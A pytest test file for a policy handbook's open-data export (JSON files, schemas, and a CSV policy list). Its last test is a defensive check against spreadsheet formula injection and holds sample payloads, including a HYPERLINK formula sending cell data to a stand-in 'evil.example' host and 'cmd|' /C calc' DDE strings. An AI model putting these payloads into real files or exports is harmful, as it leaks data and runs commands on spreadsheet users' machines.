"""Open data (policy_handbook/outputs/opendata.py): JSON files valid against their published schemas,
records that say what the cards say, and the policy list (政策清单) as a spreadsheet reads it."""
from __future__ import annotations

import csv
import io
import json
from dataclasses import replace

import pytest
from jsonschema import Draft202012Validator

from conftest import REPO, Project
from policy_handbook.config import load_config
from policy_handbook.content.load import load_content
from policy_handbook.errors import Diagnostics
from policy_handbook.outputs.opendata import CSV_COLUMNS, NOTICE, data_files
from policy_handbook.pipeline import link_library

BASE = "https://example.org/handbook/"
NAMES = ("cards", "documents", "agencies", "topics")
SHUOZHOU_19 = "shuozhou-private-economy-2019-19"  # 降低企业用电成本, led by three agencies
SHANXI_44 = "shanxi-cost-reduction-2016-44"  # 适时评估总结和推广经验: a due date and an annual item
GANZHOU_211 = "ganzhou-cost-reduction-2016-2-1-1"  # due “5月20日之前”, no year written


def library_of(root, base_url: str | None = None, **overrides):
    """The library and config of a project, as the build's first stages make them."""
    config = load_config(root / "config.yaml", Diagnostics(), base_url=base_url)
    config = replace(config, **overrides)
    diagnostics = Diagnostics()
    content = load_content(config.content_path, config.project_dir, diagnostics)
    assert not [d for d in diagnostics.items if d.severity == "error"], diagnostics.items
    return link_library(content), config


@pytest.fixture(scope="module")
def seed():
    """The bundled handbook, read from the repository (nothing is written), with a full-URL base."""
    library, config = library_of(REPO, BASE)
    return library, config, data_files(library, config)


def load(files: dict[str, bytes], name: str) -> dict:
    return json.loads(files[f"data/{name}.json"].decode("utf-8"))


def schema(files: dict[str, bytes], name: str) -> dict:
    return json.loads(files[f"data/schema/{name}.schema.json"].decode("utf-8"))


def validator(files: dict[str, bytes], name: str) -> Draft202012Validator:
    return Draft202012Validator(schema(files, name))


def rows(files: dict[str, bytes]) -> list[dict[str, str]]:
    text = files["data/policy-list.csv"].decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def record(files: dict[str, bytes], name: str, key: str, value: str) -> dict:
    [found] = [r for r in load(files, name)[name] if r[key] == value]
    return found


# --- files and schemas ------------------------------------------------------------------------

def test_the_site_gets_four_data_files_their_schemas_and_the_policy_list(seed):
    _, _, files = seed
    assert set(files) == {f"data/{n}.json" for n in NAMES} | \
        {f"data/schema/{n}.schema.json" for n in NAMES} | {"data/policy-list.csv"}


@pytest.mark.parametrize("name", NAMES)
def test_each_file_is_valid_against_its_published_schema(seed, name):
    _, _, files = seed
    Draft202012Validator.check_schema(schema(files, name))
    data = load(files, name)
    errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator(files, name).iter_errors(data)]
    assert errors == []
    assert data["schema"] == f"{BASE}data/schema/{name}.schema.json" == schema(files, name)["$id"]
    assert data["count"] == len(data[name]) > 0
    assert data["notice"] == NOTICE and data["home"] == BASE and data["title"] == "政策知识卡片手册"
    raw = files[f"data/{name}.json"]
    assert NOTICE.encode("utf-8") in raw and b"\\u" not in raw  # Chinese readable as it is
    assert raw.endswith(b"]\n}\n")


@pytest.mark.parametrize("name", NAMES)
def test_every_property_of_every_schema_is_described(seed, name):
    """The descriptions are the documentation of the format: none may be missing."""
    _, _, files = seed
    missing = []

    def walk(node, where):
        if isinstance(node, dict):
            for key, value in node.get("properties", {}).items():
                if not (isinstance(value, dict) and value.get("description")):
                    missing.append(f"{where}.{key}")
            for key, value in node.items():
                walk(value, f"{where}.{key}")
        elif isinstance(node, list):
            for i, value in enumerate(node):
                walk(value, f"{where}[{i}]")

    walk(schema(files, name), name)
    assert missing == []


def broken(files, name, change):
    data = load(files, name)
    change(data[name])
    return [list(e.absolute_path) for e in validator(files, name).iter_errors(data)]


def test_the_schemas_reject_broken_records(seed):
    _, _, files = seed

    def drop_title(cards):
        del cards[0]["title"]

    def unknown_field(cards):
        cards[1]["owner"] = "某局"

    def undated_deadline(cards):
        cards[2]["deadlines"] = [{"kind": "due", "text": "年底前"}]

    def unknown_role(cards):
        cards[3]["agencies"]["boss"] = ["某局"]

    def bad_id(cards):
        cards[4]["related"] = ["Not An Id"]

    for change, where in ((drop_title, [0]), (unknown_field, [1]), (undated_deadline, [2, "deadlines", 0]),
                          (unknown_role, [3, "agencies"]), (bad_id, [4, "related", 0])):
        assert broken(files, "cards", change) == [["cards", *where]], change.__name__

    def slash_date(documents):
        documents[0]["date"] = "2016/05"

    assert broken(files, "documents", slash_date) == [["documents", 0, "date"]]

    def district_level(agencies):
        agencies[0]["level"] = "区"

    def fax(agencies):
        agencies[0]["contact"]["fax"] = "0349-1"

    assert broken(files, "agencies", district_level) == [["agencies", 0, "level"]]
    assert broken(files, "agencies", fax) == [["agencies", 0, "contact"]]


# --- what the records say ---------------------------------------------------------------------

def test_cards_json_lists_every_card_in_reading_order_with_its_page(seed):
    library, _, files = seed
    cards = load(files, "cards")["cards"]
    assert [c["id"] for c in cards] == sorted(library.cards, key=library.position)
    assert all(c["url"] == f"{BASE}cards/{c['id']}/" for c in cards)
    ids = {c["id"] for c in cards}
    documents = {d["id"] for d in load(files, "documents")["documents"]}
    assert all(c["document"] in documents and set(c["related"]) <= ids and set(c["cited_by"]) <= ids
               for c in cards)


def test_a_card_record_says_who_leads_it_where_it_stands_and_what_it_says(seed):
    _, _, files = seed
    card = record(files, "cards", "id", SHUOZHOU_19)
    assert card["title"] == "降低企业用电成本" and card["number"] == "19" and card["kind"] == "measure"
    assert card["agencies"] == {"lead": ["朔州市经信委", "朔州市发改委", "朔州市电力公司"],
                                "responsible": [], "support": [], "mentioned": []}
    assert card["topics"] == ["用能"] and card["beneficiaries"] == ["民营企业"]
    assert card["source"] == {"file": "shuozhou-private-economy-48-measures.txt", "line": 37}
    assert card["source_url"] == f"{BASE}documents/shuozhou-private-economy-2019/#{SHUOZHOU_19}"
    assert card["text"].startswith("深化电力体制改革") and card["text"].endswith("牵头负责）")
    assert card["document"] == "shuozhou-private-economy-2019" and card["series"] is None


def test_deadlines_are_given_as_stored(seed):
    _, _, files = seed
    assert record(files, "cards", "id", SHANXI_44)["deadlines"] == [
        {"kind": "due", "date": "2017-03-31", "text": "2017年3月底前"},
        {"kind": "annual", "month_day": "06-20", "first_year": 2017, "text": "每年6月20日前"}]
    assert record(files, "cards", "id", "shanxi-cost-reduction-2016-17")["deadlines"] == [
        {"kind": "period", "start": "2016-05-01", "end": "2018-04-30", "text": "从2016年5月1日起至2018年4月30日"}]
    assert record(files, "cards", "id", "shuozhou-private-economy-2019-6")["time_limits"] == [
        "3个工作日内", "5个工作日内", "45个工作日内", "100个工作日以内"]


def test_a_series_card_names_its_group_and_issue(seed):
    _, _, files = seed
    card = record(files, "cards", "id", "pianguan-48-measures-1-2")
    assert card["series"] == {"group": "大幅放宽市场准入", "issue": 2} and card["number"] == "第二期"


def test_plain_text_shows_what_the_reader_sees_without_markdown_escapes(seed):
    _, _, files = seed
    card = record(files, "cards", "id", "shuozhou-private-economy-2019-14")
    assert "县\\<市、区\\>" in card["text"]
    assert "县<市、区>人民政府" in card["plain_text"] and "\\" not in card["plain_text"]


def test_documents_json_gives_dates_as_precise_as_known_and_cards_in_reading_order(seed):
    library, _, files = seed
    documents = load(files, "documents")["documents"]
    assert [d["id"] for d in documents] == list(library.documents)  # the home page's order
    ganzhou = record(files, "documents", "id", "ganzhou-cost-reduction-2016")
    assert (ganzhou["date"], ganzhou["published"]) == ("2016-05-06", "2016-06-02")
    pianguan = record(files, "documents", "id", "pianguan-48-measures")
    assert (pianguan["date"], pianguan["published"], pianguan["inferred"]) == ("2022", None, ["date"])
    assert pianguan["series"] == {"name": "市场主体倍增工作知识点", "label": "“48条”"}
    assert [g["name"] for g in pianguan["groups"]][:2] == ["大幅放宽市场准入", "促进市场主体开办经营便利化"]
    assert pianguan["groups"][0]["cards"][:2] == ["pianguan-48-measures-1-1", "pianguan-48-measures-1-2"]
    xinzhou = record(files, "documents", "id", "xinzhou-business-environment-2021")
    assert xinzhou["doc_number"] == "忻政发〔2021〕21号" and xinzhou["url"] == f"{BASE}documents/{xinzhou['id']}/"
    for doc in documents:
        assert doc["cards"] == list(library.cards_by_document[doc["id"]])
    assert sum(len(d["cards"]) for d in documents) == len(library.cards)


def test_agencies_json_lists_each_agency_with_the_cards_it_leads(seed):
    _, _, files = seed
    agencies = load(files, "agencies")["agencies"]
    names = [a["name"] for a in agencies]
    assert names == sorted(names) and len(set(names)) == len(names)
    jingxin = record(files, "agencies", "name", "朔州市经信委")
    assert SHUOZHOU_19 in jingxin["lead"] and jingxin["level"] == "市" and jingxin["region"] == "朔州市"
    assert jingxin["url"].startswith(f"{BASE}agencies/")
    assert record(files, "agencies", "name", "山西省人力资源社会保障厅")["aliases"] == \
        ["山西省人社厅", "山西省人力资源和社会保障厅"]
    named = {n for c in load(files, "cards")["cards"] for role in c["agencies"].values() for n in role}
    assert named <= set(names)  # every agency a card names has its record


def test_topics_json_follows_the_topic_list(seed):
    library, _, files = seed
    topics = load(files, "topics")["topics"]
    assert [t["name"] for t in topics] == library.taxonomy.topic_names()
    energy = record(files, "topics", "name", "用能")
    assert SHUOZHOU_19 in energy["cards"] and energy["description"].startswith("电、气、热、水")
    cards = {c["id"]: c for c in load(files, "cards")["cards"]}
    for topic in topics:
        assert all(topic["name"] in cards[c]["topics"] for c in topic["cards"])


# --- the policy list --------------------------------------------------------------------------

def test_the_policy_list_opens_in_excel_utf8_with_bom_and_crlf(seed):
    _, _, files = seed
    data = files["data/policy-list.csv"]
    assert data.startswith("\ufeff文件,文号,".encode("utf-8"))
    assert data.count(b"\r\n") == data.count(b"\n") == len(rows(files)) + 1


def test_the_policy_list_has_one_row_per_measure_in_reading_order(seed):
    library, _, files = seed
    listed = rows(files)
    measures = [c for c in sorted(library.cards.values(), key=lambda c: library.position(c.id)) if c.kind == "measure"]
    assert list(listed[0]) == list(CSV_COLUMNS)
    assert [r["链接"] for r in listed] == [f"{BASE}cards/{c.id}/" for c in measures]
    assert len(listed) == 206 and "指导思想" not in {r["标题"] for r in listed}  # general cards left out


def test_a_policy_list_row_reads_as_the_card_does(seed):
    _, _, files = seed
    by_link = {r["链接"]: r for r in rows(files)}
    row = by_link[f"{BASE}cards/{SHUOZHOU_19}/"]
    assert row == {"文件": "朔州市促进民营经济发展的若干措施", "文号": "", "章节": "", "序号": "19",
                   "标题": "降低企业用电成本", "牵头单位": "朔州市经信委、朔州市发改委、朔州市电力公司",
                   "责任单位": "", "配合单位": "", "时限": "", "主题": "用能", "效力": "",
                   "链接": f"{BASE}cards/{SHUOZHOU_19}/"}
    shanxi = by_link[f"{BASE}cards/{SHANXI_44}/"]
    assert shanxi["时限"] == "2017年3月底前、每年6月20日前"
    # A row is read away from its document: a date written without its year gets it.
    ganzhou = by_link[f"{BASE}cards/{GANZHOU_211}/"]
    assert ganzhou["时限"] == "2016年5月20日之前"
    assert ganzhou["章节"] == "二、重点任务及工作要求 > （一）制定惠企政策措施" and ganzhou["序号"] == "1"
    series = by_link[f"{BASE}cards/pianguan-48-measures-1-2/"]
    assert (series["章节"], series["序号"]) == ("大幅放宽市场准入", "第二期")
    xinzhou = by_link[f"{BASE}cards/xinzhou-business-environment-2021-3/"]
    assert (xinzhou["文号"], xinzhou["时限"], xinzhou["主题"]) == ("忻政发〔2021〕21号", "到2025年", "政务服务、市场准入")
    six = by_link[f"{BASE}cards/shuozhou-private-economy-2019-6/"]
    assert six["时限"] == "3个工作日内、5个工作日内、45个工作日内、100个工作日以内"


# --- determinism, paths, small projects -------------------------------------------------------

def test_two_builds_give_the_same_bytes_whatever_the_day(seed):
    _, _, files = seed
    library, config = library_of(REPO, BASE, as_of="2030-01-01")
    assert data_files(library, config) == files


def test_with_a_path_base_urls_are_site_paths_and_files_stay_under_data():
    library, config = library_of(REPO, "/handbook/")
    files = data_files(library, config)
    assert "data/cards.json" in files
    cards = load(files, "cards")
    assert cards["schema"] == "/handbook/data/schema/cards.schema.json"
    assert cards["cards"][0]["url"].startswith("/handbook/cards/")
    assert list(validator(files, "cards").iter_errors(cards)) == []


def test_aliases_contacts_editor_links_and_lists_in_a_small_project(tmp_path):
    project = Project(tmp_path / "p")
    project.write("content/regions.yaml", "- {name: 示例市, level: 市}\n")
    project.write("content/agencies.yaml",
                  "- name: 示例市发展和改革委员会\n  aliases: [示例市发改委]\n  level: 市\n  region: 示例市\n"
                  "  contact: {phone: '0349-1234567', hours: 工作日, fax: '0349-7654321'}\n")
    project.document(date="2020-05", doc_number="示政发〔2020〕1号")
    project.card("1", "第一段。\n\n- 甲\n- 乙\n\n见[[demo-2]]。", agencies={"lead": ["示例市发改委"]},
                 deadlines=[{"kind": "due", "date": "2020-06-30", "text": "6月底前"},
                            {"kind": "period", "start": "2020-01-01", "end": "2020-12-31", "text": "2020年内"}])
    project.card("2", "总的要求。", kind="general")
    library, config = library_of(project.root)
    files = data_files(library, config)
    for name in NAMES:
        assert list(validator(files, name).iter_errors(load(files, name))) == [], name
    one, two = load(files, "cards")["cards"]
    assert one["agencies"]["lead"] == ["示例市发展和改革委员会"]  # the alias resolved
    assert one["plain_text"] == "第一段。\n- 甲\n- 乙\n见措施2。"  # the link shows the card's title
    assert one["contact"] == {"name": "示例市发展和改革委员会", "phone": "0349-1234567", "address": "", "website": ""}
    assert two["cited_by"] == ["demo-1"] and two["contact"] is None
    agency = load(files, "agencies")["agencies"][0]
    assert agency["contact"] == {"phone": "0349-1234567", "hours": "工作日"}  # the unknown 'fax' left out
    assert agency["aliases"] == ["示例市发改委"] and agency["lead"] == ["demo-1"]
    assert load(files, "documents")["documents"][0]["date"] == "2020-05"
    [row] = rows(files)  # the general card is not a measure
    assert (row["文号"], row["牵头单位"], row["时限"]) == ("示政发〔2020〕1号", "示例市发展和改革委员会", "2020年6月底前、2020年内")


def test_no_cell_of_the_policy_list_starts_a_spreadsheet_formula(tmp_path):
    """OWASP's CSV injection: a cell starting with = + - @ (or a tab or CR) runs as a formula."""
    project = Project(tmp_path / "p")
    project.write("content/regions.yaml", "- {name: 示例市, level: 市}\n")
    project.write("content/agencies.yaml", "- name: '@SUM(1+1)*cmd|'' /C calc''!A0'\n  level: 市\n  region: 示例市\n")
    project.document(doc_number="=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")")
    project.card("1", title="-2+3+cmd|' /C calc'!A0", heading=["+第一章"], agencies={"lead": ["@SUM(1+1)*cmd|' /C calc'!A0"]},
                 time_limits=["\t=1+1", " =2+2"])
    project.card("2", title="降低 - 成本 = 增效", time_limits=["\r=3+3"])
    library, config = library_of(project.root)
    files = data_files(library, config)
    one, two = rows(files)
    assert one["文号"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"
    assert one["标题"] == "'-2+3+cmd|' /C calc'!A0" and one["章节"] == "'+第一章"
    assert one["牵头单位"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert one["时限"] == "'\t=1+1、 =2+2" and two["时限"] == "'\r=3+3"
    assert two["标题"] == "降低 - 成本 = 增效"  # only a cell's start matters: the rest is left as it is
    for row in (one, two):
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row.values()), row
    card = load(files, "cards")["cards"][0]  # JSON is not a spreadsheet: the text as written
    assert card["title"] == "-2+3+cmd|' /C calc'!A0"
